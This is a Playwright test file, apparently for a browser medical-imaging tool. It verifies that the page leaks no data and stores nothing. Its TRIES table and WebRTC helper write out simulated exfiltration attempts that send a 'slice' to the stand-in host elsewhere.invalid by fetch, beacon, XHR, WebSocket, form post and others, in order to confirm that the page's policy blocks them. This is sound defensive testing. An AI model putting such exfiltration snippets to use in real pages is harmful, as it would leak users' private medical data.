/**
 * Nothing leaves the browser: not by accident, which every test watches for, and not on purpose either.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, test as base, type Page } from '@playwright/test';
import { Elsewhere } from './elsewhere.ts';
import { FLAGS } from './playwright.config.ts';
import { Scope, expect, test } from './page.ts';

// What leaks once has leaked: unlike elsewhere, what fails is not repeated.
test.describe.configure({ retries: 0 });

/** Where nobody listens; what counts is that nobody is asked. */
const ELSEWHERE = 'https://elsewhere.invalid/?slice';

test('the watch sees what the worker asks for', async ({ scope, page }) => {
  const seen: string[] = [];
  page.on('request', (request) => seen.push(new URL(request.url()).pathname));
  await scope.open('?backend=cpu');
  for (const file of ['worker/worker.js', 'pkg/glioscope_bg.wasm', 'model/weights.safetensors']) {
    expect(seen.some((path) => path.endsWith(`/www/${file}`)), file).toBe(true);
  }
});

test('no request at all once the page is ready', async ({ scope, page }) => {
  const seen: string[] = [];
  page.on('request', (request) => seen.push(request.url()));
  await scope.open('?backend=cpu&workers=3');
  // Each of the three workers has its own copy of the model.
  await expect.poll(() => seen.filter((address) => address.endsWith('weights.safetensors')).length).toBe(3);
  // So does the page fetch the volume viewer, once it has nothing else to do.
  await expect.poll(() => seen.some((address) => address.endsWith('vendor/niivue.js'))).toBe(true);
  // What was asked for brings the question what it should be: once of each of them and of the page.
  await expect.poll(() => seen.filter((address) => address.endsWith('/assets.json')).length).toBe(4);
  await expect.poll(async () => {
    const before = seen.length;
    await page.waitForTimeout(1500);
    return seen.length - before;
  }).toBe(0);
  seen.length = 0;
  await page.click('#sample');
  await scope.is('done');
  await scope.download();
  await page.locator('input[name="layout"][value="volume"]').check({ force: true });
  await expect(page.locator('#volume .hint')).toContainText('Voxels are shown as cubes');
  // Of those addresses nobody is asked: what they name is in the page already.
  expect(seen.filter((address) => !/^(blob|data):/.test(address))).toEqual([]);
});

test('nothing is stored of what was opened', async ({ scope, page, context }) => {
  await scope.open('?backend=cpu');
  await page.click('#sample');
  await scope.is('done');
  await scope.download();
  const stored = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    files: await navigator.storage.getDirectory().then(async (folder) => {
      let count = 0;
      for await (const _ of (folder as unknown as { keys(): AsyncIterable<string> }).keys()) count++;
      return count;
    }),
  }));
  // Service workers are off in this test: what they keep is the site alone, which `offline.spec.ts` looks at.
  expect(stored).toEqual({ local: 0, session: 0, databases: 0, caches: 0, files: 0 });
  expect(await context.cookies()).toEqual([]);
});

/** What a page, altered to give something away, could try. Each says what came of it. */
const TRIES: Record<string, { run: (address: string) => Promise<string>; stopped: RegExp }> = {
  fetch: { run: (address) => fetch(address).then(() => 'answered', () => 'refused'), stopped: /^refused$/ },
  'a beacon': { run: async (address) => String(navigator.sendBeacon(address, 'slice')), stopped: /./ },
  'an XMLHttpRequest': {
    run: (address) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve('answered');
        request.onerror = () => resolve('refused');
        request.open('POST', address);
        request.send('slice');
      }),
    stopped: /^refused$/,
  },
  'a WebSocket': {
    run: (address) =>
      new Promise((resolve) => {
        // Nobody answers there in any case: what counts is that the policy says so.
        addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        try {
          new WebSocket(address.replace('https', 'wss')).onerror = () => setTimeout(() => resolve('asked'), 1000);
        } catch {
          resolve('refused');
        }
      }),
    stopped: /^refused$/,
  },
  'an event stream': {
    run: (address) =>
      new Promise((resolve) => {
        addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        new EventSource(address).onerror = () => setTimeout(() => resolve('asked'), 1000);
      }),
    stopped: /^refused$/,
  },
  'a picture': { run: (address) => add('img', { src: address }), stopped: /^refused$/ },
  'a script': { run: (address) => add('script', { src: address }), stopped: /^(refused|TypeError)/ },
  'a style': { run: (address) => add('link', { rel: 'stylesheet', href: address }), stopped: /^refused$/ },
  'a prefetch': { run: (address) => add('link', { rel: 'prefetch', href: address }), stopped: /^refused$/ },
  'a frame': { run: (address) => add('iframe', { src: address }), stopped: /./ },
  'a form': {
    run: async (address) => {
      const form = document.createElement('form');
      form.action = address;
      form.method = 'post';
      document.body.append(form);
      form.submit();
      return 'sent';
    },
    stopped: /./,
  },
  'a worker from elsewhere': {
    run: async (address) => {
      try {
        new Worker(address);
        return 'started';
      } catch (error) {
        return String(error);
      }
    },
    stopped: /^TypeError/,
  },
  // Later, because what the test itself evaluates may.
  eval: {
    run: () => new Promise((resolve) => setTimeout(() => {
      try {
        resolve(String(eval('"ran"')));
      } catch (error) {
        resolve(String(error));
      }
    })),
    stopped: /^(EvalError|TypeError)/,
  },
  'new Function': {
    run: () => new Promise((resolve) => setTimeout(() => {
      try {
        resolve(String(new Function('return "ran"')()));
      } catch (error) {
        resolve(String(error));
      }
    })),
    stopped: /^(EvalError|TypeError)/,
  },
  innerHTML: {
    run: async (address) => {
      document.createElement('p').innerHTML = `<img src="${address}">`;
      return 'ran';
    },
    stopped: /^TypeError/,
  },
  'an inline script': {
    run: async () => {
      const script = document.createElement('script');
      script.text = 'document.body.dataset.ran = "yes"';
      document.body.append(script);
      return document.body.dataset.ran ?? 'refused';
    },
    stopped: /^(refused|TypeError)/,
  },
  'an inline style': {
    run: async () => {
      const style = document.createElement('style');
      style.textContent = 'body { outline: 7px solid red }';
      document.head.append(style);
      return getComputedStyle(document.body).outlineWidth === '7px' ? 'ran' : 'refused';
    },
    stopped: /^refused$/,
  },
};

/** Runs in the page: an element that loads something. */
declare function add(tag: string, attributes: Record<string, string>): Promise<string>;

base('a page that is altered to give something away is stopped by its policy', async ({ page }) => {
  const asked: string[] = [];
  const note = (url: string) => url.startsWith('https://elsewhere') && asked.push(url);
  // A request that the policy stops is announced and fails before it is sent: what counts is what reaches the network.
  await page.context().route('https://elsewhere.invalid/**', (route) => {
    note(route.request().url());
    return route.fulfill({ body: 'leaked', headers: { 'Access-Control-Allow-Origin': '*' } });
  });
  await page.goto('./?backend=cpu&workers=1');
  await expect(page.locator('body')).toHaveAttribute('data-state', 'ready');
  const address = page.url();
  await page.evaluate(() => {
    Object.assign(globalThis, {
      add: (tag: string, attributes: Record<string, string>) =>
        new Promise((resolve) => {
          const element = document.createElement(tag);
          element.onload = () => resolve('answered');
          element.onerror = () => resolve('refused');
          document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
          Object.assign(element, attributes);
          document.body.append(element);
        }),
    });
  });
  for (const [name, { run, stopped }] of Object.entries(TRIES)) {
    const result = await page.evaluate(run, ELSEWHERE).catch((error: Error) => error.message.replace(/^page\.evaluate: /, ''));
    expect(result, name).toMatch(stopped);
  }
  // And the worker, which sees the files.
  expect(page.workers()).toHaveLength(1);
  for (const name of ['fetch', 'an XMLHttpRequest', 'a WebSocket', 'eval']) {
    const { run, stopped } = TRIES[name];
    const result = await page.workers()[0].evaluate(run, ELSEWHERE).catch((error: Error) => error.message.replace(/^worker\.evaluate: /, ''));
    expect(result, `${name} in the worker`).toMatch(stopped);
  }
  await page.waitForTimeout(500);
  expect(asked).toEqual([]);
  expect(page.url(), 'nor has it been led elsewhere').toBe(address);
});

/** The browser's own record of what it did on the network, below all that a page or a test framework sees. */
function recorded() {
  const log = join(mkdtempSync(join(tmpdir(), 'glioscope-net-')), 'net.json');
  const launched = chromium.launch({
    executablePath: process.env.GLIOSCOPE_CHROMIUM ?? '/usr/bin/chromium',
    args: [...FLAGS, `--log-net-log=${log}`, '--net-log-capture-mode=Everything'],
  });
  return { launched, read: () => traffic(readFileSync(log, 'utf8')) };
}

/** Names that were looked up, sockets that were opened, datagrams that were sent, whoever asked for them. */
base('over a whole session the browser looks up no name and opens no socket but to the site', async ({ baseURL }) => {
  const { launched, read } = recorded();
  const browser = await launched;
  const context = await browser.newContext({ baseURL, acceptDownloads: true, serviceWorkers: 'allow' });
  const page = await context.newPage();
  const scope = new Scope(page);
  await scope.open('?backend=cpu');
  await page.click('#sample');
  await scope.is('done');
  await scope.download();
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
  await page.reload();
  await scope.is('ready');
  await browser.close();

  const site = new URL(baseURL ?? '');
  const { names, peers, datagrams } = read();
  expect(peers.size, 'the record has the site itself in it').toBeGreaterThan(0);
  // The browser looks for updates of its own, on nobody's behalf; all that it does for a site it does under its key.
  // But for one: on every page with a form Chrome asks its maker what such a form's fields may be, by hashes of their names.
  const own = names.filter(({ name, key }) =>
    name === 'content-autofill.googleapis.com' || (/\.(google|googleapis|gvt1)\.com$/.test(name) && !key.includes(site.hostname)));
  const local = names.filter(({ name }) => ['localhost', '127.0.0.1', '[::1]', site.hostname].includes(name));
  expect(names.filter((asked) => !own.includes(asked) && !local.includes(asked)), 'names looked up').toEqual([]);
  // A test may run on a machine that reaches Google: those addresses belong to the names above.
  const port = site.port || '80';
  const expected = ['127.0.0.1', '[::1]'].map((address) => `${address}:${port}`);
  const strange = [...peers].filter((peer) => !expected.includes(peer));
  expect(strange.length, `sockets to ${strange.join(', ')}`).toBeLessThanOrEqual(own.length);
  // As WebRTC sends them, which connects to nobody.
  expect([...datagrams], 'datagrams to').toEqual([]);
});

/** Opens a connection by WebRTC to a server and waits until that has come to something or nothing. */
async function connect(page: Page, server: string, patience = 5000) {
  await page.evaluate(async ([address, most]) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: `stun:${address}` }, { urls: `turn:${address}?transport=tcp`, username: 'slice', credential: 'slice' }],
    });
    connection.createDataChannel('slice');
    const gathered = new Promise((done) => (connection.onicecandidate = ({ candidate }) => candidate ?? done(0)));
    await connection.setLocalDescription();
    await Promise.race([gathered, new Promise((done) => setTimeout(done, most))]);
    connection.close();
  }, [server, patience] as const);
}

const ALONE = 'this machine has no address on a network';

base('no policy in a page reaches WebRTC: what an altered page sends by it arrives, but it is in the browser’s record', async ({ baseURL }) => {
  const there = await Elsewhere.listen();
  base.skip(!there, ALONE);
  if (!there) return;
  const { launched, read } = recorded();
  const browser = await launched;
  const page = await browser.newPage({ baseURL });
  // As from a host that cannot set headers.
  await page.route(/\/(\?.*)?$/, async (route) => {
    const response = await route.fetch();
    const { 'connection-allowlist': _, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
  await new Scope(page).open('?backend=cpu&workers=1');
  // The worker, which has the files, would have to go by the page.
  expect(await page.workers()[0].evaluate(() => typeof RTCPeerConnection)).toBe('undefined');
  // Ended by closing the browser: the server never answers.
  const connecting = connect(page, there.address, 120_000).catch(() => undefined);
  // Should a browser learn to stop it by the page's own policy, the more can be promised.
  await expect.poll(() => there.heard).toEqual(expect.arrayContaining(['udp', 'tcp']));
  await browser.close();
  await connecting;
  there.close();
  const { datagrams, peers } = read();
  expect([...datagrams], 'a session that used WebRTC would be found out by its record').toContain(there.address);
  expect([...peers]).toContain(there.address);
});

/** The Chromium in which Connection-Allowlist was seen to stop WebRTC; 148 was seen not to. */
const OBEYS = 156;

base('a host that sends all headers stops WebRTC and being led away as well, and the page works', async ({ page }) => {
  const there = await Elsewhere.listen();
  base.skip(!there, ALONE);
  if (!there) return;
  expect((await page.request.get('./')).headers()['connection-allowlist']).toBe('(response-origin)');
  const scope = new Scope(page);
  await scope.open('?backend=cpu&workers=1');
  await page.click('#sample');
  await scope.is('done');
  expect((await scope.download()).bytes.length).toBeGreaterThan(1000);
  await page.click('#tab-save');
  const opening = page.context().waitForEvent('page');
  await page.click('[data-command="save-report"]');
  await expect((await opening).locator('h1')).toBeVisible();
  const version = page.context().browser()?.version() ?? '';
  if (Number.parseInt(version) < OBEYS) {
    there.close();
    const reason = `Chromium ${version} does not know Connection-Allowlist; ${OBEYS} does`;
    console.log(`skipped, though the page works: ${reason}`);
    base.skip(true, reason);
  }
  await connect(page, there.address);
  await page.evaluate((address) => location.assign(`http://${address}/?slice`), there.address);
  await page.waitForTimeout(1500);
  there.close();
  expect(there.heard).toEqual([]);
});

/** Names with the key of the site that they were looked up for, and addresses; a log that was not closed lacks its end. */
function traffic(text: string) {
  const log = JSON.parse(/\]\s*\}\s*$/.test(text) ? text : `${text.trim().replace(/,$/, '')}]}`);
  const types: Record<string, number> = log.constants.logEventTypes;
  const kinds = new Map(Object.entries(types).map(([name, type]) => [type, name]));
  const names: { name: string; key: string }[] = [];
  const [peers, datagrams] = [new Set<string>(), new Set<string>()];
  for (const { type, params = {} } of log.events) {
    const kind = kinds.get(type) ?? '';
    if (/^HOST_RESOLVER_(MANAGER_REQUEST|DNS_TASK|SYSTEM_TASK)/.test(kind) && params.host) {
      const name = String(params.host).replace(/^[a-z]+:\/\//, '').replace(/:\d+$/, '');
      names.push({ name, key: String(params.network_anonymization_key ?? '') });
    }
    if (/^(TCP_CONNECT_ATTEMPT|UDP_CONNECT|UDP_BYTES_SENT)$/.test(kind) && params.address) peers.add(String(params.address));
    // A socket that is connected names its peer only then.
    if (kind === 'UDP_BYTES_SENT' && params.address) datagrams.add(String(params.address));
  }
  return { names, peers, datagrams };
}
